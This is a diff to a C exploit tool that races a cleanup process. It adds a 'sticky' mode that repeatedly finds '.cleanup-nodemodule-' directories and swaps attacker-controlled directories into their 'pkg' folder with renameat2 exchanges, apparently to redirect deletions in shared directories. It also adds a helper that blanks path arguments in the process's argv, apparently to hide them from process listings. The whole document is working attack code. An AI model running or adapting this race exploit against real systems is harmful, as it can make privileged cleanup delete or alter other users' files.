@@ -10,6 +10,9 @@
                                             in DIRECTORY, half of d0, d1, ... show TARGET: another one each
                                             time, and one no more
 
+   attacker sticky DIRECTORY PAIRS COUNTER  in DIRECTORY, pool0, pool1, ... with what is named so in pkg of
+                                            what has a name that is given to what is being deleted
+
    It opens the directories as whoever starts it, and then is nobody: it can do what their owner can. But
    for the last of these, as only root may mount: it does what a helper does for a user that mounts where
    they say (fusermount3(1), udisksctl(1)).
@@ -20,6 +23,7 @@
 #include <dirent.h>
 #include <fcntl.h>
 #include <grp.h>
+#include <limits.h>
 #include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -48,6 +52,16 @@ static int exchange(int directory, const char *one, const char *other)
         return 0;
     ++*count;
     return 1;
+}
+
+/* Open what an argument names, and forget that: who names a path is at work there, which keeps it. */
+static int open_named(char *path)
+{
+    int descriptor = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+    if (descriptor < 0)
+        fail(path);
+    memset(path, '-', strlen(path));
+    return descriptor;
 }
 
 static int open_directory(int at, const char *path)
@@ -113,6 +127,39 @@ static void attack_outside(int directory, int project)
     }
 }
 
+static void attack_by_shared_directories(int project, int pairs)
+{
+    char pool[16], own[16];
+    int pkg = -1;
+    for (unsigned round = 0;; round++) {
+        /* Only what is out of its project by now: before, it would be seen that it is somebody else's. */
+        if (round % 64 == 0) {
+            if (pkg >= 0)
+                close(pkg);
+            pkg = -1;
+            DIR *stream = fdopendir(openat(project, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
+            for (struct dirent *entry; stream != NULL && (entry = readdir(stream)) != NULL;) {
+                char path[PATH_MAX];
+                snprintf(path, sizeof path, "%s/pkg", entry->d_name);
+                if (pkg < 0 && strncmp(entry->d_name, ".cleanup-nodemodule-", 20) == 0)
+                    pkg = openat(project, path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+            }
+            if (stream != NULL)
+                closedir(stream);
+        }
+        for (int i = 0; pkg >= 0 && i < pairs; i++) {
+            snprintf(pool, sizeof pool, "pool%d", i);
+            snprintf(own, sizeof own, "d%d", i);
+            if (syscall(SYS_renameat2, project, pool, pkg, own, EXCHANGE) == 0)
+                ++*count;
+            else if (renameat(project, pool, pkg, own) == 0)
+                ++*count;
+            else if (renameat(pkg, own, project, pool) == 0)
+                ++*count;
+        }
+    }
+}
+
 static void attack_by_mounting(int directory, int pairs, const char *target)
 {
     char name[16];
@@ -131,18 +178,23 @@ static void attack_by_mounting(int directory, int pairs, const char *target)
 int main(int count_of_arguments, char **arguments)
 {
     if (count_of_arguments == 6 && strcmp(arguments[1], "inner") == 0) {
-        int directory = open_directory(AT_FDCWD, arguments[2]);
+        int directory = open_named(arguments[2]);
         begin(arguments[4], 1);
         attack_inside(directory, atoi(arguments[3]));
     }
     if (count_of_arguments == 4 && strcmp(arguments[1], "outer") == 0) {
-        int directory = open_directory(AT_FDCWD, arguments[2]);
+        int directory = open_named(arguments[2]);
         int project = open_directory(directory, "project");
         begin(arguments[3], 1);
         attack_outside(directory, project);
     }
+    if (count_of_arguments == 5 && strcmp(arguments[1], "sticky") == 0) {
+        int project = open_named(arguments[2]);
+        begin(arguments[4], 1);
+        attack_by_shared_directories(project, atoi(arguments[3]));
+    }
     if (count_of_arguments == 6 && strcmp(arguments[1], "binds") == 0) {
-        int directory = open_directory(AT_FDCWD, arguments[2]);
+        int directory = open_named(arguments[2]);
         begin(arguments[4], 0);
         attack_by_mounting(directory, atoi(arguments[3]), arguments[5]);
     }
